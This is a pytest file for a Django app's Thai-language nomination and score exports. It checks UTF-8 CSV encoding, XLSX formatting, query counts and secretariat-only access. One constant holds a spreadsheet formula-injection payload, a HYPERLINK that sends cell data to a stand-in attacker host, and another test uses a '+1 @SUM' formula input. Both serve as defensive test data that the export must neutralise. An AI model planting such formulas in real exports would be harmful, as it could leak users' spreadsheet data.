import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from rangwan.judging.models import Score
from rangwan.nominations.models import Dossier, Nomination
from rangwan.reports.exports import exports_xlsx, nomination_rows, score_rows

EVIL = '=HYPERLINK("https://evil.example/?d="&A1,"คลิก")'


def _csv(response) -> list[list[str]]:
    body = response.content
    assert body.startswith("\ufeff".encode())  # BOM: Excel reads it as UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_nominations_csv_is_utf8_with_bom_and_thai_headers(client_as, users, scored_final):
    programme, nominations, _results = scored_final
    response = client_as(users["secretariat"]).get(
        reverse("reports:nominations_csv", args=[programme.pk])
    )
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = _csv(response)
    assert rows[0][:3] == ["รหัสอำเภอ", "อำเภอ", "สถานะ"]
    assert len(rows) == 1 + len(nominations)
    assert "บ้านโพธิ์" in [row[1] for row in rows]


def test_a_typed_formula_is_neutralised_in_csv_and_xlsx(client_as, users, scored_final):
    from openpyxl import load_workbook

    programme, nominations, _results = scored_final
    Dossier.objects.filter(nomination=nominations[0]).update(work_title=EVIL)
    Score.objects.filter(sheet__nomination=nominations[0]).update(remark="+1 @SUM(A1)")
    client = client_as(users["secretariat"])

    rows = _csv(client.get(reverse("reports:nominations_csv", args=[programme.pk])))
    titles = [row[10] for row in rows[1:]]
    assert "'" + EVIL in titles and EVIL not in titles
    remarks = [
        row[11] for row in _csv(client.get(reverse("reports:scores_csv", args=[programme.pk])))
    ]
    assert "'+1 @SUM(A1)" in remarks

    workbook = load_workbook(io.BytesIO(exports_xlsx(programme)))
    cells = [
        c for row in workbook["การเสนอชื่อ"].iter_rows(min_row=2) for c in row if c.value == EVIL
    ]
    assert cells and all(c.data_type == "s" for c in cells)  # text, not a formula
    assert not any(
        c.data_type == "f" for sheet in workbook for row in sheet.iter_rows() for c in row
    )


def test_scores_export_has_one_row_per_member_dossier_and_criterion(scored_final):
    programme, _nominations, _results = scored_final
    rows = score_rows(programme)
    assert len(rows) == Score.objects.filter(sheet__seat__programme=programme).count()
    assert len(rows) == 6 * 4 * 7  # members × dossiers × scored criteria
    seat = programme.seats.get(number=2)
    mine = [r for r in rows if r[2] == 2]
    assert {r[3] for r in mine} == {seat.holder_name}  # named: the secretariat may know
    assert sum(r[10] for r in rows) == sum(
        s.points for s in Score.objects.filter(sheet__seat__programme=programme)
    )
    assert {r[11] for r in rows} == {"ตามเอกสารและการนำเสนอ"}


def test_exports_xlsx_in_sarabun_with_thai_headers(scored_final):
    from openpyxl import load_workbook

    programme, _nominations, _results = scored_final
    workbook = load_workbook(io.BytesIO(exports_xlsx(programme)))
    assert workbook.sheetnames == ["การเสนอชื่อ", "คะแนน"]
    scores = workbook["คะแนน"]
    assert scores["K1"].value == "คะแนน" and scores["L1"].value == "หมายเหตุ"
    assert scores["A2"].font.name == "Sarabun"
    assert scores.max_row - 1 == len(score_rows(programme))
    assert Decimal(str(scores["K2"].value)) == score_rows(programme)[0][10]
    assert 8 <= scores.column_dimensions["I"].width <= 63


def test_export_query_count_is_the_same_for_one_and_two_dossiers(judged_programme):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from rangwan.nominations.enums import NominationStatus

    programme, nominations = judged_programme

    def count():
        counts = []
        for build in (nomination_rows, score_rows):
            with CaptureQueriesContext(connection) as captured:
                build(programme)
            counts.append(len(captured.captured_queries))
        return counts

    two = count()
    # Take the second dossier out of the export entirely: its scores and nomination.
    Score.objects.filter(sheet__nomination=nominations[1]).delete()
    nominations[1].sheets.all().delete()
    nominations[1].declarations.all().delete()
    nominations[1].versions.all().delete()
    type(nominations[1]).objects.filter(pk=nominations[1].pk).update(
        status=NominationStatus.REGISTERED
    )
    Dossier.objects.filter(nomination=nominations[1]).delete()
    one = count()
    assert len(score_rows(programme)) == 6 * 7
    assert one == two == [2, 5]


def test_exports_are_for_the_secretariat_only(client_as, users, scored_final):
    programme, _nominations, _results = scored_final
    for name in ("reports:nominations_csv", "reports:scores_csv", "reports:exports_xlsx"):
        url = reverse(name, args=[programme.pk])
        assert client_as(users["viewer"]).get(url).status_code == 403
        assert client_as(users["committee_chair"]).get(url).status_code == 403
        assert client_as(users["secretariat"]).get(url).status_code == 200


@pytest.mark.parametrize("count", [1, 3])
def test_each_export_costs_the_same_queries_however_many_dossiers(
    client_as, users, scored_programme, django_assert_num_queries, count
):
    programme, nominations = scored_programme
    Nomination.objects.filter(pk__in=[n.pk for n in nominations[count:]]).delete()
    client = client_as(users["secretariat"])
    responses = {}
    # Four to sign in, find the programme and check the permission; then the tables.
    for name, queries in (
        ("reports:nominations_csv", 4 + 2),
        ("reports:scores_csv", 4 + 5),
        ("reports:exports_xlsx", 4 + 2 + 5),
    ):
        with django_assert_num_queries(queries):
            responses[name] = client.get(reverse(name, args=[programme.pk]))
    assert len(_csv(responses["reports:nominations_csv"])) == 1 + count
    assert len(_csv(responses["reports:scores_csv"])) == 1 + 6 * count * 7
